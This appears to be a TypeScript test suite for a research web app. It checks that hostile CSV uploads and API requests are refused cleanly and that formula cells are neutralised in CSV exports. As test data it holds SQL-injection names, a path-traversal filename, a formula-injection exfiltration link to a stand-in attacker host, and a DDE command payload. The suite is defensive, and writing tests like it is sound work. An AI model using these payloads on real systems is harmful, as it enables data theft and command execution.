// The bad-input corpus: hostile files (tests/fixtures/hostile/*.csv) and hostile requests
// (tests/fixtures/hostile/requests.json, plus a few made here: an upload over 50 MB, a name too
// long) are each answered with a clear 4xx whose message names the problem, and nothing is
// written: the rows of every table and the files in the upload folder are counted before and
// after. Text that is hostile only when run (script tags, SQL metacharacters, spreadsheet
// formulas) is a valid name: it is stored verbatim, served as JSON text, and neutralised in every
// CSV export (taxa, runs, comparisons). The test counts the cases it ran, so dropping one fails.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync, existsSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { sql } from "drizzle-orm";
import Papa from "papaparse";
import request, { type Response } from "supertest";
import { createTestApp, type TestApp } from "../support/server";
import { studyWithCodebook, templateMapping, uploadCsv, type CodebookStudy } from "../support/traitTables";
import { castOfRoles, type Cast } from "./fixtures";

const HOSTILE = join(process.cwd(), "tests", "fixtures", "hostile");
const fixture = (name: string) => readFileSync(join(HOSTILE, name));

interface HostileRequest {
  case: string;
  method: "GET" | "POST" | "PATCH" | "DELETE";
  path: string;
  body?: unknown;
  raw?: string;
  anonymous?: boolean;
  status: number;
  code: string;
  message: string;
}
const REQUESTS = JSON.parse(readFileSync(join(HOSTILE, "requests.json"), "utf8")) as HostileRequest[];

/** Every table a request could write to. */
const TABLES = [
  "users",
  "sessions",
  "password_resets",
  "studies",
  "memberships",
  "invitations",
  "traits",
  "taxa",
  "coding_decisions",
  "imports",
  "outcome_overrides",
  "runs",
  "modern_lists",
  "modern_species",
  "comparisons",
  "threads",
  "thread_posts",
  "notifications",
  "activity",
  "outbox_messages",
];

let app: TestApp;
let cast: Cast;
let study: CodebookStudy;
let taxonId: string;
const uploadDir = mkdtempSync(join(tmpdir(), "stratasieve-hostile-uploads-"));
const ran: string[] = [];

beforeAll(async () => {
  app = await createTestApp({ uploadDir });
  cast = await castOfRoles(app);
  study = await studyWithCodebook(app, cast, "Invented hostile-input study");
  const created = await cast.people.owner.agent.post(`/api/studies/${study.studyId}/taxa`).send({ name: "Fallacia target (invented)", notes: "a" });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  taxonId = created.body.taxon.id;
});

afterAll(async () => {
  await app.close();
  rmSync(uploadDir, { recursive: true, force: true });
});

async function snapshot(): Promise<Record<string, number>> {
  const counts: Record<string, number> = { "files in the upload folder": readdirSync(uploadDir).length };
  for (const table of TABLES) {
    const result = await app.ctx.db.execute(sql.raw(`SELECT count(*)::int AS n FROM ${table}`));
    counts[table] = (result.rows[0] as { n: number }).n;
  }
  return counts;
}

/** Sends a hostile request and checks the refusal: status, code, a message naming the problem, nothing written. */
async function refused(name: string, send: () => Promise<Response>, expected: { status: number; code: string; message: string | RegExp }): Promise<Response> {
  ran.push(name);
  const before = await snapshot();
  const res = await send();
  expect(res.status, `${name}: ${JSON.stringify(res.body).slice(0, 500)}`).toBe(expected.status);
  expect(res.headers["content-type"], name).toMatch(/^application\/json/);
  expect(res.body.error.code, name).toBe(expected.code);
  if (typeof expected.message === "string") expect(res.body.error.message, name).toContain(expected.message);
  else expect(res.body.error.message, name).toMatch(expected.message);
  expect(await snapshot(), `${name}: something was written`).toEqual(before);
  return res;
}

/**
 * Cells a spreadsheet would run as a formula: text starting with = + - @ tab CR (OWASP, "CSV
 * Injection"), ; | or the full-width ＝ ＋ － ＠ ； ｜ (common practice, no source); a number like
 * -2.5 is data. The file is also read with ";" as the separator, as a spreadsheet in a locale whose
 * list separator is ";" would read it.
 */
function formulaCells(csv: string): string[] {
  const risky = (cell: string) => /^[=+\-@\t\r;|\uFF1D\uFF0B\uFF0D\uFF20\uFF1B\uFF5C]/.test(cell) && !/^[-+]?\d+(\.\d+)?(e[-+]?\d+)?$/i.test(cell);
  const cells = [",", ";"].flatMap((delimiter) => Papa.parse<string[]>(csv.trim(), { delimiter, skipEmptyLines: true }).data.flat());
  return cells.filter(risky);
}

/** For files with a name and a higher taxon only. */
const NAME_ONLY = { name: "name", higherTaxon: "higher_taxon", firstAppearance: null, lastAppearance: null, notes: null, traits: {} };

const uploadAs = (content: Buffer, fileName: string) => uploadCsv(cast.people.owner.agent, study.studyId, content, fileName);

async function commitOf(fileName: string, mapping: object = templateMapping(study, ["environment"])) {
  const upload = await uploadAs(fixture(fileName), fileName);
  expect(upload.status, JSON.stringify(upload.body).slice(0, 500)).toBe(201);
  const importId = upload.body.import.id as string;
  return () => cast.people.owner.agent.post(`/api/studies/${study.studyId}/imports/${importId}/commit`).send({ mapping, skipInvalid: false });
}

describe("hostile requests (requests.json)", () => {
  it("the corpus holds every request it is known to hold", () => {
    expect(REQUESTS).toHaveLength(23);
  });

  for (const c of REQUESTS) {
    it(`refuses ${c.case}`, async () => {
      const fill = (text: string) => text.replaceAll("{studyId}", study.studyId).replaceAll("{taxonId}", taxonId).replaceAll("{traitId}", study.trait.environment.id);
      const agent = c.anonymous ? request.agent(app.app) : cast.people.owner.agent;
      await refused(c.case, () => {
        const path = fill(c.path);
        const req = c.method === "GET" ? agent.get(path) : c.method === "POST" ? agent.post(path) : c.method === "PATCH" ? agent.patch(path) : agent.delete(path);
        if (c.raw !== undefined) return req.set("Content-Type", "application/json").send(fill(c.raw));
        if (c.body !== undefined) return req.send(JSON.parse(fill(JSON.stringify(c.body))));
        return req;
      }, c);
    });
  }

  it("refuses a name longer than the limit, naming the field", async () => {
    const res = await refused("a name of 301 characters", () => cast.people.owner.agent.post(`/api/studies/${study.studyId}/taxa`).send({ name: "N".repeat(301) }), {
      status: 400,
      code: "validation_failed",
      message: "name: Name must have at most 300 characters",
    });
    expect(res.body.error.fields).toEqual({ name: "Name must have at most 300 characters" });
  });

  it("refuses a JSON body over the 2 MB limit", async () => {
    await refused(
      "a JSON body of 3 MB",
      () => cast.people.owner.agent.post(`/api/studies/${study.studyId}/taxa`).send({ name: "Grandis (invented)", notes: "x".repeat(3 * 1024 * 1024) }),
      { status: 413, code: "too_large", message: "request body is too large" },
    );
  });
});

describe("hostile files", () => {
  it("an unclosed quote: the commit names the row and writes nothing", async () => {
    const commit = await commitOf("unclosed-quote.csv");
    const res = await refused("CSV with an unclosed quote", commit, { status: 400, code: "import_has_problems", message: "Nothing was imported" });
    expect(res.body.problems[0]).toMatchObject({ row: 3, column: null });
    expect(res.body.problems[0].message).toMatch(/quoted cell is never closed/);
  });

  it("a row with more cells than the header: the commit names the row and writes nothing", async () => {
    const commit = await commitOf("ragged-rows.csv");
    const res = await refused("CSV with a ragged row", commit, { status: 400, code: "import_has_problems", message: "1 of 2 rows have problems" });
    expect(res.body.problems).toEqual([{ row: 3, column: null, message: "The row has 7 cells but the header has 5: a separator inside a cell needs quotes around the cell" }]);
  });

  it("a cell of more than 1 MB: the commit names its row and column without sending the cell back", async () => {
    expect(fixture("huge-cell.csv").length).toBeGreaterThan(1024 * 1024);
    const commit = await commitOf("huge-cell.csv", NAME_ONLY);
    const res = await refused("CSV with a cell over 1 MB", commit, { status: 400, code: "import_has_problems", message: "1 of 2 rows have problems" });
    expect(res.body.problems).toEqual([{ row: 2, column: "name", message: "Name has 1100000 characters; at most 300" }]);
    expect(JSON.stringify(res.body).length).toBeLessThan(2000);
  });

  it("an empty file and a file with only a header", async () => {
    await refused("an empty file", () => uploadAs(fixture("empty.csv"), "empty.csv"), { status: 400, code: "bad_request", message: "The file is empty" });
    await refused("a header without rows", () => uploadAs(fixture("header-only.csv"), "header-only.csv"), { status: 400, code: "bad_request", message: "no data rows" });
  });

  it("files that are not CSV text: UTF-16 without a byte-order mark, a NUL byte, a workbook, an image", async () => {
    await refused("UTF-16 without a byte-order mark", () => uploadAs(fixture("utf16le-no-bom.csv"), "utf16.csv"), {
      status: 415,
      code: "not_csv_text",
      message: "UTF-16 text without a byte-order mark",
    });
    await refused("a NUL byte in a cell", () => uploadAs(fixture("nul-byte.csv"), "nul.csv"), { status: 415, code: "not_csv_text", message: "zero byte (NUL) on line 3" });
    await refused("a workbook renamed .csv", () => uploadAs(fixture("workbook-renamed.csv"), "workbook.csv"), {
      status: 415,
      code: "not_csv_text",
      message: "The file is a ZIP archive, such as a spreadsheet workbook (.xlsx, .ods), not a CSV text file",
    });
    await refused("an image renamed .csv", () => uploadAs(fixture("image-renamed.csv"), "photo.csv"), { status: 415, code: "not_csv_text", message: "The file is a PNG image" });
    await refused(
      "an image as a modern list",
      () => cast.people.owner.agent.post(`/api/studies/${study.studyId}/modern-list-uploads`).attach("file", fixture("image-renamed.csv"), "list.csv"),
      { status: 415, code: "not_csv_text", message: "The file is a PNG image" },
    );
    await refused(
      "UTF-16 without a byte-order mark as a modern list",
      () => cast.people.owner.agent.post(`/api/studies/${study.studyId}/modern-list-uploads`).attach("file", fixture("utf16le-no-bom.csv"), "list.csv"),
      { status: 415, code: "not_csv_text", message: "UTF-16" },
    );
  });

  it("an upload over 50 MB is refused with 413 and leaves no file", async () => {
    const dir = mkdtempSync(join(tmpdir(), "stratasieve-oversized-"));
    try {
      const path = join(dir, "oversized.csv");
      const line = "Grandissima (invented),Invented clade A\n";
      writeFileSync(path, "name,higher_taxon\n" + line.repeat(Math.ceil((50 * 1024 * 1024 + 1) / line.length)));
      await refused("an upload over 50 MB", () => cast.people.owner.agent.post(`/api/studies/${study.studyId}/imports`).attach("file", path), {
        status: 413,
        code: "limit_file_size",
        message: "larger than the upload limit",
      });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("an upload without a file, with two files, or under another field name", async () => {
    const path = `/api/studies/${study.studyId}/imports`;
    const csv = Buffer.from("name\nSolitaria (invented)\n");
    await refused("an upload sent as JSON", () => cast.people.owner.agent.post(path).send({ file: "name\nSolitaria\n" }), {
      status: 400,
      code: "bad_request",
      message: 'Attach the CSV file as the form field "file"',
    });
    await refused("an upload of two files", () => cast.people.owner.agent.post(path).attach("file", csv, "a.csv").attach("file", csv, "b.csv"), {
      status: 400,
      code: "limit_file_count",
      message: 'Attach exactly one file, as the form field "file"',
    });
    await refused("a file under another field name", () => cast.people.owner.agent.post(path).attach("upload", csv, "a.csv"), {
      status: 400,
      code: "limit_unexpected_file",
      message: 'a file came as "upload"',
    });
  });
});

describe("text that is hostile only when run is stored verbatim and stays inert", () => {
  it("script tags and SQL metacharacters in names are stored as written and served as JSON text", async () => {
    ran.push("script tags and SQL metacharacters in names");
    const commit = await commitOf("script-and-sql-names.csv", NAME_ONLY);
    const res = await commit();
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const expected = Papa.parse<string[]>(fixture("script-and-sql-names.csv").toString("utf8").trim()).data.slice(1).map((r) => r[0]);
    expect(expected).toContain("Quotella'); DROP TABLE taxa; -- (invented)");
    const listed = await cast.people.viewer.agent.get(`/api/studies/${study.studyId}/taxa`).query({ pageSize: "500", sort: "name" });
    expect(listed.headers["content-type"]).toMatch(/^application\/json/);
    expect(listed.headers["x-content-type-options"]).toBe("nosniff");
    const names = (listed.body.rows as Array<{ name: string }>).map((r) => r.name);
    for (const name of expected) expect(names).toContain(name);
    // The table is still there, and the names are text in it.
    const stored = await app.ctx.db.execute(sql`SELECT name FROM taxa WHERE study_id = ${study.studyId} AND name = ${"Quotella'); DROP TABLE taxa; -- (invented)"}`);
    expect(stored.rows).toHaveLength(1);
  });

  it("LIKE wildcards in a name search match only themselves", async () => {
    ran.push("LIKE wildcards in a name search");
    const search = async (text: string) =>
      ((await cast.people.viewer.agent.get(`/api/studies/${study.studyId}/taxa`).query({ filter: `name:contains:${text}` })).body.rows as Array<{ name: string }>).map((r) => r.name);
    expect(await search("%")).toEqual(["Percentella 100% (invented)"]);
    expect(await search("_")).toEqual(["Lineella_under (invented)"]);
    expect(await search("\\")).toEqual(["Backslashella \\ (invented)"]);
    expect(await search("'); DROP")).toEqual(["Quotella'); DROP TABLE taxa; -- (invented)"]);
  });

  it("a Windows-1252 file and a UTF-16 file with a byte-order mark are read with the right letters", async () => {
    ran.push("Windows-1252 and UTF-16 files");
    for (const [file, names] of [
      ["windows-1252.csv", ["Cañonella (invented)", "Müllerina (invented)"]],
      ["utf16le-with-bom.csv", ["Sedecima æquata (invented)"]],
    ] as const) {
      const upload = await uploadAs(fixture(file), file);
      expect(upload.status, JSON.stringify(upload.body)).toBe(201);
      const res = await cast.people.owner.agent
        .post(`/api/studies/${study.studyId}/imports/${upload.body.import.id}/commit`)
        .send({ mapping: NAME_ONLY, skipInvalid: false });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      for (const name of names) {
        const found = await cast.people.viewer.agent.get(`/api/studies/${study.studyId}/taxa`).query({ filter: `name:eq:${name}` });
        expect(found.body.rows.map((r: { name: string }) => r.name), file).toEqual([name]);
      }
    }
  });

  it("a file name that climbs out of the upload folder is kept as a name only", async () => {
    ran.push("a file name with ../ in it");
    // Written by hand: a form library would strip the path before sending it.
    const boundary = "hostile-boundary-7f3a";
    const body = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="../../../escaped.csv"\r\nContent-Type: text/csv\r\n\r\nname\nScandens (invented)\n\r\n--${boundary}--\r\n`,
    );
    const res = await cast.people.owner.agent.post(`/api/studies/${study.studyId}/imports`).set("Content-Type", `multipart/form-data; boundary=${boundary}`).send(body);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.import.fileName).not.toMatch(/[\\/]/);
    expect(res.body.import.fileName).toMatch(/escaped\.csv$/);
    const stored = await app.ctx.db.execute(sql`SELECT stored_path FROM imports WHERE id = ${res.body.import.id}`);
    const storedPath = (stored.rows[0] as { stored_path: string }).stored_path;
    expect(dirname(storedPath)).toBe(resolve(uploadDir));
    expect(storedPath).toMatch(/\/[0-9a-f-]{36}\.csv$/);
    expect(existsSync(resolve(uploadDir, "../../../escaped.csv"))).toBe(false);
  });

  describe("formula cells are stored verbatim and neutralised in every CSV export", () => {
    let runId: string;

    it("in the taxa export", async () => {
      ran.push("formula cells in the taxa export");
      const commit = await commitOf("formula-cells.csv");
      const res = await commit();
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body.createdCount).toBe(9);
      const hyperlink = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Open")';
      const found = await cast.people.viewer.agent.get(`/api/studies/${study.studyId}/taxa`).query({ filter: "name:contains:HYPERLINK" });
      expect(found.body.rows.map((r: { name: string }) => r.name)).toEqual([hyperlink]);

      const exported = await cast.people.viewer.agent.get(`/api/studies/${study.studyId}/exports/taxa.csv`);
      expect(exported.status).toBe(200);
      expect(exported.headers["content-type"]).toMatch(/^text\/csv/);
      const text = exported.text;
      expect(formulaCells(text)).toEqual([]);
      const cells = Papa.parse<string[]>(text.trim()).data.flat();
      // A leading apostrophe keeps the text as text (OWASP, "CSV Injection").
      for (const cell of [
        `'${hyperlink}`,
        "'+Formulella plus (invented)",
        "'-Formulella minus (invented)",
        "'@SUM(Formulella) (invented)",
        "'=cmd|' /C calc'!A0",
        "'=1+2",
        "';=1+1 Formulella semicolon (invented)",
        "'|Formulella pipe (invented)",
        "'\uFF1D1+1 Formulella full-width (invented)",
        "'\uFF0BInvented clade C",
        "Formulella;=1+1 mid-cell (invented)",
      ]) {
        expect(cells).toContain(cell);
      }
    });

    it("in a run's export", async () => {
      ran.push("formula cells in a run export");
      // The person who starts the run has a formula for a name too; it appears as created_by.
      const starter = cast.people.analyst.agent;
      const renamed = await starter.patch("/api/auth/me").send({ name: '=HYPERLINK("http://attacker.invalid","Me")' });
      expect(renamed.status, JSON.stringify(renamed.body)).toBe(200);
      const created = await starter.post(`/api/studies/${study.studyId}/runs`).send({
        name: '=HYPERLINK("http://attacker.invalid","Open run")',
        boundaries: [{ boundaryMa: 66 }],
        traits: [{ traitId: study.trait.environment.id }],
      });
      expect(created.status, JSON.stringify(created.body)).toBe(202);
      runId = created.body.id;
      let run = created.body;
      for (let i = 0; i < 300 && (run.status === "queued" || run.status === "running"); i++) {
        await new Promise((r) => setTimeout(r, 100));
        run = (await cast.people.viewer.agent.get(`/api/studies/${study.studyId}/runs/${runId}`)).body;
      }
      expect(run.status, run.error ?? "").toBe("succeeded");
      expect(run.name).toBe('=HYPERLINK("http://attacker.invalid","Open run")');
      const exported = await cast.people.viewer.agent.get(`/api/studies/${study.studyId}/runs/${runId}/export`).query({ format: "csv" });
      expect(exported.status).toBe(200);
      expect(formulaCells(exported.text)).toEqual([]);
      const cells = Papa.parse<string[]>(exported.text.trim()).data.flat();
      expect(cells).toContain(`'=HYPERLINK("http://attacker.invalid","Open run")`);
      expect(cells).toContain(`'=HYPERLINK("http://attacker.invalid","Me")`);
    });

    it("in a comparison's export", async () => {
      ran.push("formula cells in a comparison export");
      const owner = cast.people.owner.agent;
      const upload = await owner.post(`/api/studies/${study.studyId}/modern-list-uploads`).attach("file", fixture("modern-list-formula-species.csv"), "formula-species.csv");
      expect(upload.status, JSON.stringify(upload.body)).toBe(201);
      const list = await owner
        .post(`/api/studies/${study.studyId}/modern-list-uploads/${upload.body.upload.id}/commit`)
        .send({ mapping: { name: "species", category: "status", traitColumns: ["environment"] }, name: "+Formula species (invented)", skipInvalid: false });
      expect(list.status, JSON.stringify(list.body)).toBe(201);
      const crosswalk = await owner
        .put(`/api/studies/${study.studyId}/modern-lists/${list.body.id}/crosswalk`)
        .send({ pairs: [{ traitId: study.trait.environment.id, column: "environment", states: { marine: "marine", nonmarine: "nonmarine" } }] });
      expect(crosswalk.status, JSON.stringify(crosswalk.body)).toBe(200);
      const comparison = await owner.post(`/api/studies/${study.studyId}/comparisons`).send({ name: "@Comparison (invented)", listId: list.body.id, runId });
      expect(comparison.status, JSON.stringify(comparison.body)).toBe(201);
      const exported = await cast.people.viewer.agent.get(`/api/studies/${study.studyId}/comparisons/${comparison.body.id}/export`).query({ format: "csv" });
      expect(exported.status).toBe(200);
      expect(formulaCells(exported.text)).toEqual([]);
      const cells = Papa.parse<string[]>(exported.text.trim()).data.flat();
      for (const cell of [`'=HYPERLINK("http://attacker.invalid","Open") (invented)`, "'+Modernella plus (invented)", "'-Modernella minus (invented)", "'@Modernella at (invented)"]) {
        expect(cells).toContain(cell);
      }
    });
  });
});

describe("the corpus", () => {
  it("ran every hostile case", () => {
    // 23 requests from requests.json, 2 made here, 14 files, 8 inert-text checks.
    expect(ran).toHaveLength(47);
    expect(new Set(ran).size).toBe(ran.length);
  });
});
